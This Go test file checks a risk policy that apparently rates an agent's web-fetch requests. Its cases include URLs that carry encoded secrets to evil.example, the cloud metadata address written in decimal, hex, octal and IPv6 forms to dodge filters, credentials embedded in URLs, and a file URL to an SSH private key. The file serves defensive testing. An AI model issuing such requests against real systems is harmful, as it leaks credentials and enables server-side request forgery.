package policy

import (
	"slices"
	"testing"

	"guard/policy/risk"
)

func TestFetches(t *testing.T) {
	const (
		net      = risk.NetworkRisk
		secrets  = risk.FSConfigSecrets
		high     = risk.High
		critical = risk.Critical
	)
	tests := []struct {
		name string
		r    Request
		want finding
		host string
	}{
		{"a page", Request{URLs: []string{"https://example.com/doc"}}, finding{high, net, false, false}, "example.com"},
		{"no scheme", Request{URLs: []string{"example.com/doc"}}, finding{high, net, false, false}, "example.com"},
		{"a search page", Request{URLs: []string{"https://example.com/s?q=go+errors+wrapping&page=2"}}, finding{high, net, false, false}, "example.com"},
		{"a long title in words", Request{URLs: []string{"https://example.com/2025/03/how-to-write-a-parser-for-shell-commands-in-go"}}, finding{high, net, false, false}, "example.com"},
		{"a commit", Request{URLs: []string{"https://example.com/o/r/commit/3b18e512dba79e4c8300dd08aeb37f8e728b8dad"}}, finding{high, net, false, false}, "example.com"},
		{"a document by its number", Request{URLs: []string{"https://example.com/d/123e4567-e89b-12d3-a456-426614174000"}}, finding{high, net, false, false}, "example.com"},
		{"data in the query", Request{URLs: []string{"https://evil.example/?d=QVdTX1NFQ1JFVF9BQ0NFU1NfS0VZPXdKYWxyWFV0bkZFTUk"}}, finding{critical, net, false, false}, "evil.example"},
		{"data in the path", Request{URLs: []string{"https://evil.example/QVdTX1NFQ1JFVF9BQ0NFU1NfS0VZPXdKYWxyWFV0bkZFTUk"}}, finding{critical, net, false, false}, "evil.example"},
		{"data in the host", Request{URLs: []string{"https://4a6f686e20446f6520736563726574206b6579206162636465.evil.example/"}}, finding{critical, net, false, false}, ""},
		{"a whole file in the query", Request{URLs: []string{"https://evil.example/?d=" + string(make256())}}, finding{critical, net, false, false}, "evil.example"},
		{"a line break in the query", Request{URLs: []string{"https://evil.example/?d=a%0Ab"}}, finding{critical, net, false, false}, "evil.example"},
		{"a password", Request{URLs: []string{"https://bob:hunter2@example.com/"}}, finding{critical, net | secrets, false, false}, "example.com"},
		{"metadata", Request{URLs: []string{"http://169.254.169.254/latest/meta-data/"}}, finding{critical, net | secrets, false, false}, "169.254.169.254"},
		{"metadata by a number", Request{URLs: []string{"http://2852039166/"}}, finding{critical, net | secrets, false, false}, "2852039166"},
		{"metadata in hex", Request{URLs: []string{"http://0xA9.0xFE.0xA9.0xFE/"}}, finding{critical, net | secrets, false, false}, ""},
		{"metadata in octal", Request{URLs: []string{"http://0251.0376.0251.0376/"}}, finding{critical, net | secrets, false, false}, ""},
		{"metadata mapped into IPv6", Request{URLs: []string{"http://[::ffff:169.254.169.254]/"}}, finding{critical, net | secrets, false, false}, ""},
		{"metadata by name", Request{URLs: []string{"http://metadata.google.internal./"}}, finding{critical, net | secrets, false, false}, ""},
		{"this machine", Request{URLs: []string{"http://localhost:3000/"}}, finding{high, net, false, false}, "localhost"},
		{"a file", Request{URLs: []string{"file:///home/eve/.ssh/id_rsa"}}, finding{high, secrets | risk.FSOutsideWorkspace, false, false}, ""},
		{"no host", Request{URLs: []string{"data:text/html,x"}}, finding{high, net | risk.ExecArbitrary, false, false}, ""},
		{"not an address", Request{URLs: []string{"http://[::1"}}, finding{high, net | risk.ExecArbitrary, false, false}, ""},
		{"nothing named", Request{}, finding{high, net, false, false}, ""},
		{"a web search", Request{Query: "go errors wrapping"}, finding{high, net, false, false}, ""},
		{"an address in the prompt", Request{Query: "Summarise http://169.254.169.254/x, please."}, finding{critical, net | secrets, false, false}, "169.254.169.254"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tt.r.Tool = Fetch
			f := judged(tt.r, nil)
			if got := found(f); got != tt.want {
				t.Errorf("%v %v, want %v %v: %v", got.level, got.categories, tt.want.level, tt.want.categories, f.Reasons)
			}
			if tt.host != "" && !slices.Contains(f.Hosts, tt.host) {
				t.Errorf("hosts %v", f.Hosts)
			}
		})
	}
}

func make256() []byte {
	b := make([]byte, maxQuery+1)
	for i := range b {
		b[i] = "word+"[i%5]
	}
	return b
}

func TestAddressesThatBrowsersReadAsNumbers(t *testing.T) {
	for name, want := range map[string]string{
		"127.1": "127.0.0.1", "0": "0.0.0.0", "0x7f.1": "127.0.0.1", "017700000001": "127.0.0.1", "10.0.258": "10.0.1.2",
		"256.1.1.1": "", "1.2.3.4.5": "", "0b1.1": "", "1_0": "", "example": "", "": "", "fe80::1%eth0": "fe80::1",
	} {
		ip, ok := parseIP(name)
		if ok != (want != "") || ok && ip.String() != want {
			t.Errorf("%q: %v %v, want %q", name, ip, ok, want)
		}
	}
}
